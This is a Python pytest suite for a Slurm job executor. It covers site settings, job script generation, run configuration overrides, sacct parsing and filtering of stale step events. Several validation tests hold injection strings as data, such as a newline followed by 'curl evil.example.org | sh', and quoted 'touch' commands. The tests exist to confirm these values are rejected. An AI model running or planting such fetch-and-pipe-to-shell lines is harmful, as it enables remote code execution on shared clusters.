"""What needs no cluster: settings, the job script, plain words, whose events count."""

import os
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from dagster._core.events import DagsterEvent, DagsterEventType
from pydantic import ValidationError

from resources.errors import ConfigurationError
from resources.executors.slurm.accounts import read_sacct, read_scontrol
from resources.executors.slurm.executor import StragglerFilter
from resources.executors.slurm.job import Job, JobEnd, describe_waiting
from resources.executors.slurm.script import Step, write_script
from resources.executors.slurm.shared_files import file_system_of
from resources.executors.slurm.site import configured_site, plan_step
from resources.executors.step_resources import StepResources, validation_message
from resources.settings import JobOptions, JobRequest, Site

SITE = Site.model_validate(
    {
        "folder": "/shared/c4/slurm",
        "python": "/shared/c4/venv/bin/python",
        "environment_file": "/shared/c4/environment",
        "account": "crystals",
        "partition": "cpu",
        "gpu": {
            "partition": "gpu",
            "prologue": ["source /etc/profile.d/modules.sh", "module load cuda/12"],
        },
        "steps": {"marco_probabilities": {"minutes": 480}},
    }
)
RULES = {"cpu", "gpu", "steps", "backfill"}
GOLDEN = Path(__file__).parent / "job_script.golden.sh"

STEP = Step(
    run_id="11f0c3de-5a5c-4a3a-9a9c-000000000001",
    key="marco_probabilities",
    attempt=2,
    name="marco_probabilities",
    job="score_images",
    resources=StepResources(gpus=1, cpus=8, memory_gb=16, minutes=240),
    arguments="eJwrLi0CAAK+AUY=",
    python="/opt/c4/bin/python",
    dagster_home="/shared/c4/dagster",
    working_directory="/shared/c4/code",
    settings_file=Path("/shared/c4/c4.toml"),
)


def test_the_job_script_of_the_example_site_is_the_golden_file() -> None:
    text = write_script(STEP, SITE).text
    if os.environ.get("UPDATE_GOLDEN"):
        GOLDEN.write_text(text)
    assert text == GOLDEN.read_text(), "UPDATE_GOLDEN=1 writes the file anew; read the difference first."


def test_keys_of_mapped_steps_make_names_that_stay_apart() -> None:
    keys = ["marco[a/b]", "marco[a_b]", "group.marco", "group_marco"]
    scripts = [write_script(replace(STEP, key=key), SITE) for key in keys]
    assert len({script.name for script in scripts}) == len({script.path for script in scripts}) == 4
    assert all(script.path.parent.name == STEP.run_id for script in scripts)


@pytest.mark.parametrize(
    ("settings", "named"),
    [
        ({"folder": "jobs"}, "folder: value error, must be an absolute path"),
        ({"gpu": {"partitoin": "a"}}, "gpu.partitoin"),
        ({"poll_seconds": "often"}, "poll_seconds"),
        ({"login": {"user": "c4"}}, "login.host"),
        ({"options": ["--requeue"]}, "--requeue is set by C4"),
        ({"options": ["--clusters=second"]}, "--clusters would send jobs to a cluster that C4 does not ask"),
        ({"options": ["--cluster=second"]}, "--clusters would send jobs"),
        ({"gpu": {"options": ["--exclude=n7 --clusters=second"]}}, "--clusters would send jobs"),
        ({"options": ["-Msecond"]}, "must be a long sbatch option"),
        ({"options": ["--exclude=n7 -M second"]}, "must be long sbatch options like --exclude=n7, not '-M'"),
        ({"options": ["--wait"]}, "--wait would make sbatch wait"),
        ({"options": ["--exclude=n7\ncurl evil.example.org | sh"]}, "must be a long sbatch option"),
        ({"partition": "gpu\ncurl evil.example.org | sh\n"}, "partition"),
    ],
)
def test_a_wrong_key_of_the_section_is_named(settings: dict[str, object], named: str) -> None:
    with pytest.raises(ValidationError) as error:
        Site.model_validate({"folder": "/s", **settings})
    assert named in validation_message(error.value)


def test_a_deployment_without_a_cluster_says_what_to_write() -> None:
    for run in ({}, {"partition": "gpu"}):
        with pytest.raises(ConfigurationError, match="No Slurm site is configured"):
            configured_site(None, run)


def test_a_runs_configuration_replaces_what_is_asked_for_and_leaves_the_rest_of_the_section() -> None:
    changes = {"nice": 9, "gpu": {"qos": "urgent", "gpu_type": "a100", "minutes": 5}, "steps": {"slow": {"cpus": 3}}}
    site = configured_site(SITE, {**changes, "backfill": {"gpu": {"constraint": "volta|ampere"}}})
    assert (site.gpu.qos, site.gpu.partition, site.gpu.prologue) == ("urgent", "gpu", SITE.gpu.prologue)
    assert (site.nice, site.steps["slow"].cpus, site.steps["marco_probabilities"].minutes) == (9, 3, 480)
    assert site.backfill.gpu.constraint == "volta|ampere"
    assert site.environment_file == SITE.environment_file


@pytest.mark.parametrize(
    "key", sorted({*Site.model_fields, *JobOptions.model_fields} - JobRequest.model_fields.keys() - RULES)
)
def test_a_runs_configuration_cannot_say_what_is_run_or_where(key: str) -> None:
    """Whoever reaches Dagster's port may write the configuration of a run."""
    values: dict[str, object] = {"prologue": ["touch /tmp/here"], "options": ["--chdir=/tmp"], "where": "here"}
    value = values.get(key, "/tmp/program")
    for above in ((), ("gpu",), ("steps", "marco_probabilities"), ("backfill",), ("backfill", "steps", "x")):
        changes: dict[str, object] = {key: value}
        for name in reversed(above):
            changes = {name: changes}
        with pytest.raises(ConfigurationError, match=rf"{key}.*A run may change partition, account") as refused:
            configured_site(SITE, changes)
        assert "c4.toml" in str(refused.value)


@pytest.mark.parametrize("key", ["partition", "account", "qos", "gpu_type", "constraint"])
@pytest.mark.parametrize("value", ["x\ntouch /tmp/here", "x\r", "a b", "'; touch /tmp/here; '", 'x"', "x\\", ""])
def test_no_value_of_a_runs_configuration_becomes_a_line_of_its_job_scripts(key: str, value: str) -> None:
    with pytest.raises(ConfigurationError, match=key):
        configured_site(SITE, {key: value})


@pytest.mark.parametrize("run_id", ["../../elsewhere", "a\ntouch /tmp/here", "", "a b", "/etc"])
def test_a_run_id_that_somebody_made_up_is_no_part_of_a_path(run_id: str) -> None:
    with pytest.raises(ConfigurationError, match="run id"):
        replace(STEP, run_id=run_id)


def test_a_sites_words_for_a_step_come_before_those_for_its_kind_and_the_defaults() -> None:
    settings = {
        "folder": "/s",
        "partition": "all",
        "account": "c4",
        "options": ["--nice"],
        "cpu": {"partition": "cpu", "minutes": 7},
        "steps": {"slow": {"minutes": 99, "options": ["--exclude=n7"]}},
    }
    resources, options = plan_step(Site.model_validate(settings), "slow", StepResources(minutes=1))
    assert (resources.minutes, options.partition, options.account) == (99, "cpu", "c4")
    assert options.options == ("--nice", "--exclude=n7")


def test_the_rules_of_backfills_come_after_all_others_and_hold_for_them_alone() -> None:
    settings = {
        "folder": "/s",
        "partition": "all",
        "account": "c4",
        "options": ["--exclude=n7"],
        "steps": {"slow": {"minutes": 99, "partition": "long"}},
        "backfill": {
            "partition": "low",
            "nice": 100,
            "options": ["--signal=B:TERM@60"],
            "gpu": {"qos": "scavenger"},
            "steps": {"slow": {"minutes": 200}},
        },
    }
    site, without = Site.model_validate(settings), Site.model_validate({**settings, "backfill": {}})
    assert plan_step(site, "slow", StepResources()) == plan_step(without, "slow", StepResources(), backfill=True)
    resources, options = plan_step(site, "slow", StepResources(gpus=1), backfill=True)
    assert (resources.minutes, options.partition, options.account, options.qos) == (200, "low", "c4", "scavenger")
    assert options.options == ("--exclude=n7", "--signal=B:TERM@60")
    script = write_script(replace(STEP, name="slow", backfill=True), site).text
    assert "#SBATCH --partition=low\n" in script
    assert "#SBATCH --nice=100\n" in script
    assert "exec nice -n 19 " in script
    assert "nice " not in write_script(replace(STEP, name="slow"), site).text


def directives(site: Site, **resources: Any) -> set[str]:
    """What sbatch is told for a step that asks for two GPUs."""
    asked = StepResources.model_validate({"gpus": 2, "cpus": 8, "memory_gb": 16, **resources})
    text = write_script(replace(STEP, resources=asked), site).text
    return {line.removeprefix("#SBATCH --") for line in text.splitlines() if line.startswith("#SBATCH")}


@pytest.mark.parametrize(
    ("own", "without"),
    [
        ("--mem-per-cpu=500M", "mem="),
        ("--mem-per-gpu=8G", "mem="),
        ("--mem=0", "mem=16384M"),
        ("--gpus=2", "gres="),
        ("--gpus-per-node=a100:2", "gres="),
        ("--gres=gpu:a100:2", "gres=gpu:2"),
        ("--cpus-per-gpu=4", "cpus-per-task="),
        ("--partition=own", "partition=gpu"),
        ("--time=1-0", "time="),
    ],
)
def test_a_sites_own_words_take_the_place_of_what_c4_would_say(own: str, without: str) -> None:
    site = Site.model_validate({"folder": "/s", "gpu": {"partition": "gpu", "minutes": 9, "options": [own]}})
    said = directives(site)
    assert own.removeprefix("--") in said
    assert not [each for each in said - {own.removeprefix("--")} if each.startswith(without)]
    names = [each.split("=")[0] for each in said]
    assert len(names) == len(set(names)), "sbatch would take the last one without a word."


def test_other_generic_resources_of_a_site_stand_beside_the_gpus() -> None:
    site = Site.model_validate({"folder": "/s", "options": ["--gres=tmpfs:10G", "--gres-flags=enforce-binding"]})
    assert {"gres=gpu:2,tmpfs:10G", "gres-flags=enforce-binding"} <= directives(site)
    assert "gres=tmpfs:10G" in directives(site, gpus=0)


def test_steps_with_a_gpu_stay_what_they_are_where_the_site_asks_for_it_in_its_own_words() -> None:
    rules = {"partition": "gpu", "gpus": 0, "options": ["--gpus=1"], "prologue": ["module load cuda"]}
    site = Site.model_validate({"folder": "/s", "partition": "cpu", "gpu": rules})
    resources, options = plan_step(site, "marco_probabilities", StepResources(gpus=1))
    assert (resources.gpus, options.partition, options.prologue) == (0, "gpu", ("module load cuda",))
    assert options.options == ("--gpus=1",)


def test_a_step_that_the_site_gives_a_gpu_follows_the_rules_of_gpus_and_the_other_way_round() -> None:
    rules = {"cpu": {"partition": "cpu"}, "gpu": {"partition": "gpu"}, "steps": {"a": {"gpus": 1}, "b": {"gpus": 0}}}
    site = Site.model_validate({"folder": "/s", **rules})
    for name, asked, expected in (("a", 0, (1, "gpu")), ("b", 1, (0, "cpu"))):
        resources, options = plan_step(site, name, StepResources(gpus=asked))
        assert (resources.gpus, options.partition) == expected


def test_an_unreadable_resource_tag_names_the_step_and_the_key() -> None:
    with pytest.raises(ConfigurationError, match=r"step classify.*gpu_count"):
        StepResources.from_tags({"c4/resources": '{"gpu_count": 1}'}, "classify")


@pytest.mark.parametrize(
    ("end", "words"),
    [
        (JobEnd("1", "a", "FAILED", 0, 9), "it was killed by signal 9 (SIGKILL)"),
        (JobEnd("1", "a", "FAILED", 139), "it was killed by signal 11 (SIGSEGV)"),
        (JobEnd("1", "a", "FAILED", 3), "it ended with exit code 3"),
        (JobEnd("1", "a", "TIMEOUT"), "it ran out of time"),
        (JobEnd("1", "a", "OUT_OF_MEMORY", 0, 125), "it ran out of memory"),
        (JobEnd("1", "a", "NODE_FAIL"), "its node failed"),
        (JobEnd("1", "a", "PREEMPTED"), "it was preempted"),
        (JobEnd("1", "a", "CANCELLED", cancelled_by="mona"), "it was cancelled by mona"),
    ],
)
def test_ends_are_told_in_plain_words(end: JobEnd, words: str) -> None:
    assert end.describe().startswith(words)


def test_reasons_to_wait_are_told_in_plain_words_with_slurms_own() -> None:
    assert describe_waiting("(Resources)") == "the resources that it asks for are in use (Resources)"
    assert "has reached a limit" in describe_waiting("QOSMaxGRESPerUser")
    assert describe_waiting("Brand_New") == "Brand_New"


@pytest.mark.parametrize("state", ["COMPLETING", "CONFIGURING", "SUSPENDED", "A_STATE_OF_SLURM_30"])
def test_states_that_are_not_an_end_count_as_active(state: str) -> None:
    assert not Job("1", "a", state, "n1", "None").ended


def test_sacct_and_scontrol_are_read_as_they_print() -> None:
    printed = (
        "7|a|CANCELLED by 1000|0:15|2026-11-23T09:00:00|2026-11-23T09:00:30|2026-11-23T09:10:30|n2|\n"
        "7.batch|batch|CANCELLED|0:15|2026-11-23T09:00:30|2026-11-23T09:00:30|2026-11-23T09:10:31|n2|2097152K\n"
        "8|a|RUNNING|0:0|2026-11-23T09:00:00|2026-11-23T09:00:30|Unknown|n2|\n"
    )
    [end] = read_sacct(printed).values()
    assert (end.queue_seconds, end.elapsed_seconds, end.max_memory_mb, end.cancelled_by) == (30, 600, 2048, "1000")
    assert read_scontrol("JobId=8 JobState=RUNNING Reason=None ExitCode=0:0") is None


def test_network_file_systems_are_told_from_local_ones() -> None:
    mounts = "/dev/sda1 / ext4 rw 0 0\nserver:/home /home nfs4 rw 0 0\nlustre /home/scratch\\040disk lustre rw 0 0\n"
    assert file_system_of(Path("/var/c4"), mounts) == "ext4"
    assert file_system_of(Path("/home/c4/dagster"), mounts) == "nfs4"
    assert file_system_of(Path("/home/scratch disk/c4"), mounts) == "lustre"
    assert file_system_of(Path("/homely"), mounts) == "ext4"


def event(kind: DagsterEventType, pid: int) -> DagsterEvent:
    of_the_end = {"is_step_success": DagsterEventType.STEP_SUCCESS, "is_step_failure": DagsterEventType.STEP_FAILURE}
    of_the_end["is_step_up_for_retry"] = DagsterEventType.STEP_UP_FOR_RETRY
    answers = {name: kind == which for name, which in of_the_end.items()}
    fake = SimpleNamespace(step_key="s", event_type=kind, pid=pid, is_resource_init_failure=False, **answers)
    return cast("DagsterEvent", fake)


def test_only_the_newest_attempts_word_counts() -> None:
    starting, started = DagsterEventType.STEP_WORKER_STARTING, DagsterEventType.STEP_WORKER_STARTED
    success, failure, retry = (
        DagsterEventType.STEP_SUCCESS,
        DagsterEventType.STEP_FAILURE,
        DagsterEventType.STEP_UP_FOR_RETRY,
    )
    worker, first, second = 1, 11, 12
    story = [
        (starting, worker, True),
        (started, first, True),
        (retry, worker, True),  # its node was lost
        (success, first, False),  # the orphan, while nobody runs the step
        (starting, worker, True),
        (failure, first, False),  # the orphan again, before the second attempt has begun
        (started, second, True),
        (success, first, False),
        (success, second, True),
        (failure, first, False),
    ]
    stragglers = StragglerFilter()
    assert [stragglers.keep(event(kind, pid)) for kind, pid, _ in story] == [kept for *_, kept in story]


def test_an_attempt_on_another_machine_may_have_the_process_id_of_the_one_before() -> None:
    starting, started = DagsterEventType.STEP_WORKER_STARTING, DagsterEventType.STEP_WORKER_STARTED
    success, failure, retry = (
        DagsterEventType.STEP_SUCCESS,
        DagsterEventType.STEP_FAILURE,
        DagsterEventType.STEP_UP_FOR_RETRY,
    )
    worker, same = 1, 7
    story = [
        (starting, worker, True),
        (started, same, True),
        (retry, worker, True),
        (starting, worker, True),
        (failure, same, False),  # of the first attempt: the second has not begun
        (started, same, True),
        (success, same, True),
        (success, same, False),
    ]
    stragglers = StragglerFilter()
    assert [stragglers.keep(event(kind, pid)) for kind, pid, _ in story] == [kept for *_, kept in story]
